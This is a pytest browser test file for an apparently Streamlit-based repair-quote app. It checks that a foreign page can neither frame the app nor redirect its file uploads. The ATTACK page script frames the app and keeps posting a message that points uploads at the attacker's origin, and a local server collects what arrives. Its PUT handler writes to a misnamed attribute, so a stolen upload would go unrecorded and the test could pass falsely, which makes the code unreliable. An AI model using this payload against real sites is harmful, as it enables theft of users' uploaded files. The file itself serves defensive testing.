"""A foreign page in a real browser, which frames the program, steers it and listens; and the pages at work."""

import json
import shutil
import ssl
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import DESK, QUIET_BROWSER, ROOT, at_rest
from playwright.sync_api import Browser, Page, expect
from test_network import Site, running

pytestmark = pytest.mark.browser

BOOK = ROOT / "data" / "demo" / "jobs.csv"
TRUSTED = "https://devel.streamlit.test"
"""An origin that the library trusts as it comes; it leads to this computer here."""
FOREIGN = "http://evil.test"

ATTACK = """<!DOCTYPE html><title>foreign</title><script>
const heard = [];
const order = { stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG", prefix: location.origin, headers: {} };
addEventListener("message", (message) => heard.push(JSON.stringify(message.data)));
const frame = (url) => {
  const there = Object.assign(document.createElement("iframe"), { src: url, width: 800, height: 900 });
  document.body.append(there);
  setInterval(() => there.contentWindow.postMessage(order, "*"), 100);
};
</script><body></body>"""


class Foreign(BaseHTTPRequestHandler):
    """Serves the page that attacks, and takes whatever it is given."""

    taken: list[bytes]

    def do_GET(self) -> None:
        self._answer(ATTACK.encode())

    def do_PUT(self) -> None:
        self.take.append(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def do_OPTIONS(self) -> None:
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        for name, value in (
            ("Content-Type", "text/html"), ("Content-Length", str(len(body))),
            ("Access-Control-Allow-Origin", self.headers.get("Origin", "*")), ("Access-Control-Allow-Methods", "PUT"),
            ("Access-Control-Allow-Headers", "*, x-xsrftoken, content-type"),
            ("Access-Control-Allow-Credentials", "true"),
        ):  # fmt: skip
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


@contextmanager
def foreign(folder: Path, secure: bool) -> Iterator[tuple[int, list[bytes]]]:
    """The port of a foreign server on this computer, and what it was given."""
    taken: list[bytes] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Taking", (Foreign,), {"taken": taken}))
    if secure:
        maker = shutil.which("openssl")
        assert maker, "a certificate is needed to stand for an origin that the library trusts"
        certificate, key = folder / "certificate.pem", folder / "key.pem"
        subprocess.run(
            [maker, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=test",
             "-keyout", str(key), "-out", str(certificate)], check=True, capture_output=True,
        )  # fmt: skip
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], taken
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with running(tmp_path_factory.mktemp("shop")) as found:
        yield found


@pytest.fixture(params=[FOREIGN, TRUSTED])
def attack(request: pytest.FixtureRequest, chromium: Browser, tmp_path: Path) -> Iterator[tuple[Page, list[bytes]]]:
    """The foreign page, open in a browser; and what its server was given."""
    with foreign(tmp_path, request.param == TRUSTED) as (port, taken):
        rules = f"--host-resolver-rules=MAP evil.test 127.0.0.1:{port}, MAP devel.streamlit.test 127.0.0.1:{port}"
        arguments = [*QUIET_BROWSER, rules, "--ignore-certificate-errors"]
        browser = chromium.browser_type.launch(executable_path=shutil.which("chromium"), args=arguments)
        page = browser.new_context(**DESK).new_page()  # type: ignore[arg-type]
        page.goto(request.param)
        yield page, taken
        browser.close()


def test_a_foreign_page_cannot_frame_the_program_nor_hear_of_a_visit(shop: Site, attack: Any) -> None:
    page, taken = attack
    for path in ("/?quote=444", "/shop"):
        with page.expect_console_message(lambda message: "frame-ancestors 'none'" in message.text, timeout=15_000):
            page.evaluate(f"frame('http://127.0.0.1:{shop.port}{path}')")
    page.wait_for_timeout(2_000)
    assert len(page.frames) == 3
    assert not any(frame.locator("[data-testid=stApp], input").count() for frame in page.frames)
    assert page.evaluate("heard") == [], "neither the visit's link nor anything else"
    assert taken == []


def test_the_pages_work_within_the_policy_and_an_upload_is_let_go(shop: Site, chromium: Browser) -> None:
    page = chromium.new_context(**DESK, locale="en-US", accept_downloads=True).new_page()  # type: ignore[arg-type]
    sentences: list[str] = []
    page.on("console", lambda message: sentences.append(message.text))
    page.on("pageerror", lambda error: sentences.append(f"Refused: {error}"))
    at = f"http://127.0.0.1:{shop.port}"
    page.goto(f"{at}/?place=US&kind=refrigerator&age=12&fault=compressor&quote=400")
    at_rest(page).locator(".st-key-section").get_by_role("radio", name="Why", exact=True).click()
    expect(at_rest(page).locator(".st-key-breakeven .main-svg").first).to_be_visible()
    assert page.evaluate("document.documentElement.lang") == "en"
    assert page.evaluate("window.heardAloud"), "what serves the ears ran"
    assert page.get_by_label("Age, or year made", exact=True).get_attribute("inputmode") == "decimal", (
        "what serves phones ran"
    )
    with page.expect_download() as made:
        page.locator("[data-testid=stDownloadButton] button").first.click()
    assert made.value.path().read_bytes()[:5] == b"%PDF-"
    page.goto(f"{at}/home?place=US&kind=refrigerator&fault=compressor")
    for _ in range(2):  # each time it begins at its top
        at_rest(page).get_by_role("button", name="Next", exact=True).click()
        expect(at_rest(page).locator(".st-key-home h2").first).to_be_focused()
    page.goto(f"{at}/shop")
    at_rest(page).locator("input[type=file]").first.set_input_files(BOOK)
    expect(at_rest(page).locator(".st-key-shop_held_line")).to_contain_text(BOOK.name)
    expect(page.locator(".main-svg").first).to_be_visible()
    assert [text for text in sentences if "Security Policy" in text or "Refused" in text] == []
    time.sleep(1)
    waiting = json.loads((shop.folder / "uploads.txt").read_text())
    assert waiting, "it came"
    assert sum(waiting) == 0, "and is kept by the page alone"
